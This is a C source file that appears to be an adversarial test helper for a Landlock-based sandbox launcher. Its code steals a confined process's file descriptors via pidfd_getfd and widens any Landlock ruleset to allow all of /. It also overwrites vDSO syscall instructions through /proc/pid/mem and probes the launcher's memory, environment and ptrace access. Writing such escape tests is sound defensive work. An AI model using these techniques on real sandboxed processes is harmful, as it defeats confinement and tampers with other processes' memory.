// SPDX-License-Identifier: Apache-2.0
// A process of the same user, not confined itself, that goes for a program while it is being confined.
//   thief fds ROUNDS PROGRAM ARGUMENT…   takes fds out of it (pidfd_getfd) and widens every ruleset it gets
//   thief memory ROUNDS PROGRAM …        writes over the vDSO, where the injected calls are made
//   thief rootfds ROUNDS PROGRAM …       the same as root of a user namespace, whom no dumpable flag stops; exits 77
//                                        where this machine doesn't let a user make one
//   thief tracer PID                     goes for llrun itself: its fds, its memory, ptrace
// The first two print one line a round by PROGRAM and at last "STOLEN n" or "WRITTEN n"; the third exits 0 when every
// way into PID was refused.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

struct __attribute__((packed)) beneath {
    uint64_t allowed;
    int32_t fd;
};

// 1 when `fd` is a ruleset, which then allows everything beneath /.
static int widen(int fd) {
    struct beneath rule = {(1ULL << 13) - 1, open("/", O_PATH)};
    const long result = syscall(445 /* landlock_add_rule */, fd, 1, &rule, 0);
    close(rule.fd);
    return result == 0;
}

static int stealOnce(pid_t pid) {
    const int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    int stolen = 0;
    for (int number = 0; pidfd >= 0 && number < 8; ++number) {
        const int fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
        if (fd >= 0) {
            stolen += widen(fd);
            close(fd);
        }
    }
    close(pidfd);
    return stolen;
}

// Writes `mov $0, %eax; ret`-like bytes over every `syscall` instruction of the vDSO.
static int scribble(pid_t pid) {
    char name[64];
    snprintf(name, sizeof name, "/proc/%d/maps", pid);
    FILE* maps = fopen(name, "r");
    unsigned long begin = 0;
    unsigned long end = 0;
    char line[512];
    while (maps != NULL && fgets(line, sizeof line, maps) != NULL) {
        if (strstr(line, "[vdso]") != NULL) {
            sscanf(line, "%lx-%lx", &begin, &end);
        }
    }
    if (maps != NULL) {
        fclose(maps);
    }
    snprintf(name, sizeof name, "/proc/%d/mem", pid);
    const int mem = open(name, O_RDWR);
    int written = 0;
    unsigned char code[16384];
    const ssize_t got = begin != 0 && mem >= 0
                            ? pread(mem, code, end - begin < sizeof code ? end - begin : sizeof code, (off_t)begin)
                            : 0;
    for (ssize_t at = 0; at + 1 < got; ++at) {
        if (code[at] == 0x0f && code[at + 1] == 0x05) {
            written += pwrite(mem, "\x31\xc0", 2, (off_t)begin + at) == 2; // xor %eax, %eax
        }
    }
    if (mem >= 0) {
        close(mem);
    }
    return written;
}

static int rounds(int count, int (*attack)(pid_t), const char* word, char** argv) {
    int total = 0;
    for (int round = 0; round < count; ++round) {
        const pid_t child = fork();
        if (child == 0) {
            execv(argv[0], argv);
            _exit(100 + errno);
        }
        int status = 0;
        while (waitpid(child, &status, WNOHANG) == 0) {
            total += attack(child);
        }
        if (WIFSIGNALED(status)) {
            puts("KILLED");
            fflush(stdout);
        }
    }
    printf("%s %d\n", word, total);
    return 0;
}

static int atTracer(pid_t pid) {
    char name[64];
    int failures = 0;
    const int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int number = 0; number < 64; ++number) {
        failures += syscall(SYS_pidfd_getfd, pidfd, number, 0) >= 0;
    }
    static const char* const files[] = {"mem", "maps", "environ", "fd/0", "auxv", "root"};
    for (size_t i = 0; i < sizeof files / sizeof *files; ++i) {
        snprintf(name, sizeof name, "/proc/%d/%s", pid, files[i]);
        if (open(name, O_RDONLY) >= 0) {
            printf("%s can be opened\n", name);
            ++failures;
        }
    }
    failures += ptrace(PTRACE_ATTACH, pid, 0, 0) == 0;
    failures += ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
    char byte = 0;
    const struct iovec local = {&byte, 1};
    const struct iovec remote = {(void*)0x400000, 1};
    failures += process_vm_readv(pid, &local, 1, &remote, 1, 0) >= 0 || errno != EPERM;
    return failures;
}

int main(int argc, char** argv) {
    if (argc == 3 && strcmp(argv[1], "tracer") == 0) {
        return atTracer(atoi(argv[2]));
    }
    if (argc > 3 && strcmp(argv[1], "rootfds") == 0) {
        if (unshare(CLONE_NEWUSER) != 0) {
            return 77;
        }
        return rounds(atoi(argv[2]), stealOnce, "STOLEN", argv + 3);
    }
    if (argc > 3 && strcmp(argv[1], "fds") == 0) {
        return rounds(atoi(argv[2]), stealOnce, "STOLEN", argv + 3);
    }
    if (argc > 3 && strcmp(argv[1], "memory") == 0) {
        return rounds(atoi(argv[2]), scribble, "WRITTEN", argv + 3);
    }
    return 2;
}
